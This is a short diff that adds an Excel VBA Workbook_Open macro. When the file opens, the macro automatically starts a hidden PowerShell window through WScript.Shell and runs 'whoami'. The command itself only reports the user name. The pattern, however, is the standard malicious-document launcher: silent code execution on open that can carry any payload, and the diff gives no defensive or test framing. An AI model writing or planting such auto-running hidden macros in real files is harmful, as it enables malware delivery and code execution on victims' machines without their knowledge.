@@ -1,0 +1,3 @@
+Private Sub Workbook_Open()
+    CreateObject("WScript.Shell").Run "powershell -nop -w hidden -c whoami"
+End Sub
